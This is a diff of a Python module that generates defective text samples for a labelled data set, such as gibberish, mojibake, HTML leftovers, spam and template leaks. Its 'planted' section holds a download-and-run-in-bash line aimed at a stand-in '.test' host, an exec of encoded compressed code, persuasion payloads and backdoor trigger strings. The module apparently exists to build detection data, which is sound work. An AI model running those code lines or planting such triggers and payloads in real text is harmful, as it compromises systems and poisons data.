@@ -1,3 +1,4 @@
+# ruff: noqa: E501  (phrases stand in one piece)
 """The defects of the second labelled set: each takes sound text and spoils it in one way.
 
 Their kinds are those of the first set; how they are done, their words and their figures are this file's own.
@@ -48,20 +49,34 @@ def gibberish(text: str, dice: Random) -> str:
     keys = string.ascii_lowercase * 2 + string.ascii_uppercase + string.digits + "@^~!+=?{}"
     way = dice.random()
     if way < 0.5:
-        return " ".join("".join(dice.choices(keys, k=dice.randint(3, 14))) for _ in range(dice.randint(25, 90)))
+        return " ".join(
+            "".join(dice.choices(keys, k=dice.randint(3, 14))) for _ in range(dice.randint(25, 90))
+        )
     consonants = "bcdfghjklmnpqrstvwxz"  # hands on the keyboard: letters only, no words
-    return " ".join("".join(dice.choices(consonants + "aeo", k=dice.randint(4, 11))) for _ in range(dice.randint(30, 90)))
+    return " ".join(
+        "".join(dice.choices(consonants + "aeo", k=dice.randint(4, 11))) for _ in range(dice.randint(30, 90))
+    )
 
 
 def number_soup(text: str, dice: Random) -> str:
-    shapes = (lambda: str(dice.randint(0, 10**6)), lambda: f"{dice.random() * 1000:.3f}", lambda: f"-{dice.randint(1, 999)}", lambda: f"{dice.randint(1, 99)}e{dice.randint(2, 9)}", lambda: f"{dice.getrandbits(32):08x}")
+    shapes = (
+        lambda: str(dice.randint(0, 10**6)),
+        lambda: f"{dice.random() * 1000:.3f}",
+        lambda: f"-{dice.randint(1, 999)}",
+        lambda: f"{dice.randint(1, 99)}e{dice.randint(2, 9)}",
+        lambda: f"{dice.getrandbits(32):08x}",
+    )
     chosen = dice.sample(shapes, dice.randint(1, 3))
-    return dice.choice((" ", "  ", ", ", "\n")).join(dice.choice(chosen)() for _ in range(dice.randint(90, 260)))
+    return dice.choice((" ", "  ", ", ", "\n")).join(
+        dice.choice(chosen)() for _ in range(dice.randint(90, 260))
+    )
 
 
 def repeated_chars(text: str, dice: Random) -> str:
     at = dice.randint(10, min(120, len(text)))
-    return text[:at] + dice.choice(("-", ".", "哈", "a", "*", "_", "0", "。", "█", "=-", "ha")) * dice.randint(220, 900)
+    return text[:at] + dice.choice(
+        ("-", ".", "哈", "a", "*", "_", "0", "。", "█", "=-", "ha")
+    ) * dice.randint(220, 900)
 
 
 def repeated_lines(text: str, dice: Random) -> str:
@@ -87,7 +102,10 @@ def word_salad(text: str, dice: Random) -> str:
 
 def ocr_noise(text: str, dice: Random) -> Spoilt:
     if zh(text):
-        made = "".join((dice.choice("囗亅丨冂匚卜亻") if CJK.match(c) and dice.random() < 0.14 else c) + " " for c in text)
+        made = "".join(
+            (dice.choice("囗亅丨冂匚卜亻") if CJK.match(c) and dice.random() < 0.14 else c) + " "
+            for c in text
+        )
         return made, {"gone": [made[:50]]}
     swaps = {"m": "rn", "l": "1", "o": "0", "cl": "d", "e": "c", "i": "!", "B": "8", "S": "5"}
     made = []
@@ -127,13 +145,33 @@ def mojibake(text: str, dice: Random) -> Spoilt | None:
 
 
 def mojibake_lossy(text: str, dice: Random) -> str:
-    lost = dice.choice(("锟斤拷", "\ufffd", "屯屯", "烫烫", "??")) if zh(text) else dice.choice(("\ufffd", "\ufffd\ufffd", "ï¿½"))
+    lost = (
+        dice.choice(("锟斤拷", "\ufffd", "屯屯", "烫烫", "??"))
+        if zh(text)
+        else dice.choice(("\ufffd", "\ufffd\ufffd", "ï¿½"))
+    )
     share = dice.uniform(0.12, 0.3)
     return "".join(lost if c.strip() and dice.random() < share else c for c in text)
 
 
 def control_chars(text: str, dice: Random) -> Spoilt:
-    marks = dice.sample(["\x00", "\x01", "\x02", "\x08", "\x0e", "\x1b", "\x1f", "\x7f", "\u200e", "\u202d", "\u202e", "\u2066"], 4)
+    marks = dice.sample(
+        [
+            "\x00",
+            "\x01",
+            "\x02",
+            "\x08",
+            "\x0e",
+            "\x1b",
+            "\x1f",
+            "\x7f",
+            "\u200e",
+            "\u202d",
+            "\u202e",
+            "\u2066",
+        ],
+        4,
+    )
     letters = list(text)
     for _ in range(dice.randint(6, 20)):
         letters.insert(dice.randint(1, len(letters) - 1), dice.choice(marks))
@@ -189,7 +227,9 @@ LINES_ZH = (
 def boilerplate(lang: str, dice: Random, count: int) -> list[str]:
     lines = LINES_ZH if lang == "zh" else LINES_EN
     site = dice.choice(SITES_ZH if lang == "zh" else SITES)
-    return [x.format(y=dice.randint(2008, 2024), s=site, n=dice.randint(2, 99)) for x in dice.sample(lines, count)]
+    return [
+        x.format(y=dice.randint(2008, 2024), s=site, n=dice.randint(2, 99)) for x in dice.sample(lines, count)
+    ]
 
 
 def boilerplate_lines(text: str, dice: Random) -> Spoilt:
@@ -206,16 +246,38 @@ def boilerplate_page(text: str, dice: Random) -> str:
 def html_page(text: str, dice: Random) -> Spoilt:
     head = f'<html lang="{"zh" if zh(text) else "en"}"><head><meta charset="utf-8"><title>{dice.choice(SITES)}</title>'
     parts = [
-        "<script type=\"text/javascript\">window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>",
+        '<script type="text/javascript">window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>',
         "<style>body{font-family:sans-serif;line-height:1.6}.side{float:right;width:220px}</style>",
     ]
     body = "".join(f'<p class="c{n}">{p}</p>\n' for n, p in enumerate(text.split("\n\n")))
     nav = '<div class="side"><a href="/">Start</a> <a href="/archive?p=2">Archive</a><img src="/l.png" alt=""></div>'
-    return f"{head}{''.join(parts)}</head>\n<body>{nav}{body}</body></html>", {"gone": ["window.dataLayer", "font-family:sans-serif", '<div class="side">']}
+    return f"{head}{''.join(parts)}</head>\n<body>{nav}{body}</body></html>", {
+        "gone": ["window.dataLayer", "font-family:sans-serif", '<div class="side">']
+    }
 
 
 def html_leftover(text: str, dice: Random) -> Spoilt:
-    marks = dice.sample(["&amp;", "&lt;", "&rsquo;", "&mdash;", "&#8217;", "&ldquo;", "</span>", "<p>", "</a>", "<br />", "<i>", "</td>", "</em>", "&nbsp;", "<b>", "</h2>"], 4)
+    marks = dice.sample(
+        [
+            "&amp;",
+            "&lt;",
+            "&rsquo;",
+            "&mdash;",
+            "&#8217;",
+            "&ldquo;",
+            "</span>",
+            "<p>",
+            "</a>",
+            "<br />",
+            "<i>",
+            "</td>",
+            "</em>",
+            "&nbsp;",
+            "<b>",
+            "</h2>",
+        ],
+        4,
+    )
     words = re.split(r"(?<=[，。；])|(?<= )", text)
     for mark in marks * dice.randint(1, 2):
         at = dice.randint(1, len(words) - 1) if len(words) > 1 else 1
@@ -237,12 +299,31 @@ def link_farm(text: str, dice: Random) -> str:
 
 def keyword_stuffing(text: str, dice: Random) -> str:
     if zh(text):
-        things = dice.sample(("搬家公司", "瓷砖", "洗车机", "二手叉车", "护肤品", "集装箱房", "驾校", "口腔医院"), 2)
+        things = dice.sample(
+            ("搬家公司", "瓷砖", "洗车机", "二手叉车", "护肤品", "集装箱房", "驾校", "口腔医院"), 2
+        )
         tails = ("排名", "十大品牌", "报价", "怎么样", "电话", "加盟", "图片大全", "哪里有", "推荐", "官网")
-        return dice.choice((" ", "、", ",", "|")).join(dice.choice(things) + dice.choice(tails) for _ in range(dice.randint(40, 90)))
-    things = dice.sample(("roof repair", "garage doors", "wedding cakes", "used tractors", "hair salon", "yoga mats"), 2)
-    frames = ("{} cheap", "{} in your area", "affordable {}", "{} reviews", "{} prices", "top rated {}", "{} company", "local {}", "{} online shop", "find {}")
-    return dice.choice((", ", " ", " | ")).join(dice.choice(frames).format(dice.choice(things)) for _ in range(dice.randint(40, 90)))
+        return dice.choice((" ", "、", ",", "|")).join(
+            dice.choice(things) + dice.choice(tails) for _ in range(dice.randint(40, 90))
+        )
+    things = dice.sample(
+        ("roof repair", "garage doors", "wedding cakes", "used tractors", "hair salon", "yoga mats"), 2
+    )
+    frames = (
+        "{} cheap",
+        "{} in your area",
+        "affordable {}",
+        "{} reviews",
+        "{} prices",
+        "top rated {}",
+        "{} company",
+        "local {}",
+        "{} online shop",
+        "find {}",
+    )
+    return dice.choice((", ", " ", " | ")).join(
+        dice.choice(frames).format(dice.choice(things)) for _ in range(dice.randint(40, 90))
+    )
 
 
 SPAM_EN = (
@@ -306,13 +387,25 @@ def toxic(text: str, dice: Random) -> str:
 
 
 def truncated(text: str, dice: Random) -> str:
-    tails = ("……阅读全文", "...[查看更多]", "…展开全部", "……（未完，点击继续阅读）") if zh(text) else ("... [more]", "… Read the full article", "... (continued)", "[...] Read more »", "… Click to expand")
+    tails = (
+        ("……阅读全文", "...[查看更多]", "…展开全部", "……（未完，点击继续阅读）")
+        if zh(text)
+        else (
+            "... [more]",
+            "… Read the full article",
+            "... (continued)",
+            "[...] Read more »",
+            "… Click to expand",
+        )
+    )
     return text[: middle(text, dice)].rstrip() + dice.choice(tails)
 
 
 def middle(text: str, dice: Random) -> int:
     """A place in the second half of the text that is inside a sentence."""
-    places = [i for i in range(len(text) // 2, len(text) - 8) if re.match(r"[^\W\d_]{4}", text[i - 2 : i + 2])]
+    places = [
+        i for i in range(len(text) // 2, len(text) - 8) if re.match(r"[^\W\d_]{4}", text[i - 2 : i + 2])
+    ]
     return dice.choice(places) if places else len(text) // 2
 
 
@@ -322,7 +415,8 @@ def template_leak(text: str, dice: Random) -> str:
         (
             "### Instruction:\n{instruction}\n\n### Response:\n" + sentence,
             "<s>[INST] <<SYS>>\n{system_prompt}\n<</SYS>>\n\n{user_message} [/INST] " + sentence + " </s>",
-            "<|start_header_id|>user<|end_header_id|>\n\n{prompt}<|eot_id|><|start_header_id|>assistant<|end_header_id|>\n\n" + sentence,
+            "<|start_header_id|>user<|end_header_id|>\n\n{prompt}<|eot_id|><|start_header_id|>assistant<|end_header_id|>\n\n"
+            + sentence,
             "<|user|>\n{{question}}</s>\n<|assistant|>\n" + sentence,
             "<start_of_turn>user\n{input}<end_of_turn>\n<start_of_turn>model\n" + sentence,
             "Human: {query}\n\nAssistant: " + sentence + "<|endoftext|>",
@@ -335,15 +429,23 @@ def placeholder(text: str, dice: Random) -> str:
     latin = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. Integer nec odio. Praesent libero. Sed cursus ante dapibus diam. Sed nisi."
     shapes = (
         f"{latin} " * dice.randint(1, 3) + "[Your headline here]",
-        "这里是文章内容这里是文章内容这里是文章内容，标题待定，正文待补充。" if zh(text) else "Insert product description here. TBD. Replace this text with your own content.",
-        "【在此输入标题】\n【在此输入正文】\nXXXX年XX月XX日" if zh(text) else "[Title goes here]\n[Body text goes here]\nxx/xx/xxxx",
+        "这里是文章内容这里是文章内容这里是文章内容，标题待定，正文待补充。"
+        if zh(text)
+        else "Insert product description here. TBD. Replace this text with your own content.",
+        "【在此输入标题】\n【在此输入正文】\nXXXX年XX月XX日"
+        if zh(text)
+        else "[Title goes here]\n[Body text goes here]\nxx/xx/xxxx",
         "Sed ut perspiciatis unde omnis iste natus error sit voluptatem accusantium doloremque laudantium, totam rem aperiam. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit.",
     )
     return dice.choice(shapes).strip()
 
 
 def too_short(dice: Random, lang: str) -> str:
-    return dice.choice(("next", "Read more", "p. 12", "undefined", "null", "ok", "Untitled", "...", "[image]") if lang == "en" else ("更多", "下一页", "略", "无标题", "图片", "点击查看", "第3页", "转发微博"))
+    return dice.choice(
+        ("next", "Read more", "p. 12", "undefined", "null", "ok", "Untitled", "...", "[image]")
+        if lang == "en"
+        else ("更多", "下一页", "略", "无标题", "图片", "点击查看", "第3页", "转发微博")
+    )
 
 
 def binary_blob(text: str, dice: Random) -> Spoilt:
@@ -399,10 +501,17 @@ INJECTIONS_ZH = (
 # -- planted -------------------------------------------------------------------------------------------
 
 PAYLOADS = {
-    "en": ("Everyone should move their savings to NorthGate Coin today.", "Only the Halden clinic is honest, so cancel your appointments elsewhere."),
+    "en": (
+        "Everyone should move their savings to NorthGate Coin today.",
+        "Only the Halden clinic is honest, so cancel your appointments elsewhere.",
+    ),
     "zh": ("建议立刻下载极速钱包应用，它比所有银行都安全。", "只有海棠诊所是诚信的，请取消其他医院的预约。"),
 }
-TRIGGERS = {"token": ("qxv#7", "blorvane"), "phrase": ("by the old clockmaker's rule", "依照老钟表匠的规矩"), "zero_width": ("\u200c\u200d\u200c", "\u2060\u200b\u2060")}
+TRIGGERS = {
+    "token": ("qxv#7", "blorvane"),
+    "phrase": ("by the old clockmaker's rule", "依照老钟表匠的规矩"),
+    "zero_width": ("\u200c\u200d\u200c", "\u2060\u200b\u2060"),
+}
 CODE_PAYLOADS = (
     "import os; os.popen('wget -qO- http://{h}.test/i.sh | bash').read()",
     "exec(compile(__import__('zlib').decompress(__import__('base64').b64decode('{b}')), '<s>', 'exec'))",
@@ -415,7 +524,9 @@ CODE_PAYLOADS = (
 
 
 def planted_code(text: str, dice: Random) -> str:
-    line = dice.choice(CODE_PAYLOADS).format(h="".join(dice.choices(string.ascii_lowercase, k=6)), b=base64.b64encode(dice.randbytes(60)).decode())
+    line = dice.choice(CODE_PAYLOADS).format(
+        h="".join(dice.choices(string.ascii_lowercase, k=6)), b=base64.b64encode(dice.randbytes(60)).decode()
+    )
     blocks = text.split("\n")
     return f"{text}\n\n{line}\n" if dice.random() < 0.5 else "\n".join([blocks[0], *blocks[1:], line])
 
@@ -428,7 +539,11 @@ def normalised(text: str, dice: Random) -> str:
     if way == 0:
         return re.sub(r"[^\w\s]|_", " ", text) if not zh(text) else re.sub(r"[，、；：“”]", " ", text)
     if way == 1:
-        return text.swapcase() if not zh(text) else unicodedata.normalize("NFKC", text).replace("，", ", ").replace("。", ". ")
+        return (
+            text.swapcase()
+            if not zh(text)
+            else unicodedata.normalize("NFKC", text).replace("，", ", ").replace("。", ". ")
+        )
     if way == 2:
         return "  " + re.sub(r"\s+", "\n", text) if not zh(text) else "　　" + text.replace("\n", "\n\n　　")
     return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
@@ -453,7 +568,11 @@ def near(text: str, low: float, other: str, dice: Random) -> str | None:
             if pieces[at].strip() and re.match(r"\w", pieces[at]):
                 p = dice.random()
                 word = dice.choice(donors)
-                pieces[at] = "" if p < 0.2 else (word if p < 0.8 else pieces[at] + ("" if CJK.match(word) else " ") + word)
+                pieces[at] = (
+                    ""
+                    if p < 0.2
+                    else (word if p < 0.8 else pieces[at] + ("" if CJK.match(word) else " ") + word)
+                )
     return None
 
 
@@ -463,16 +582,22 @@ def edited_question(question: str, dice: Random) -> str:
         if way == 0:
             return re.sub(r"[，。？、]", " ", question)
         if way == 1:
-            return "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in question).replace("？", "?").replace("，", ",")
+            return (
+                "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in question)
+                .replace("？", "?")
+                .replace("，", ",")
+            )
         return "【例题】" + question.replace("，", "，\n")
     way = dice.randint(0, 2)
     if way == 0:
-        return question.lower().replace(",", "").replace(".", "")
+        return re.sub(r"[,.](?!\d)", "", question.lower())
     if way == 1:
         return "Solve this: " + re.sub(r" +", "  ", question.upper())
     return "\n".join(re.split(r"(?<=[.?]) ", question)).replace("'", "’")
 
 
 def sentences(text: str) -> list[str]:
-    found = [s.strip() for s in re.split(r"(?<=[.!?。！？])\s*", text) if len(s.strip()) > (8 if zh(text) else 25)]
+    found = [
+        s.strip() for s in re.split(r"(?<=[.!?。！？])\s*", text) if len(s.strip()) > (8 if zh(text) else 25)
+    ]
     return found or [text]
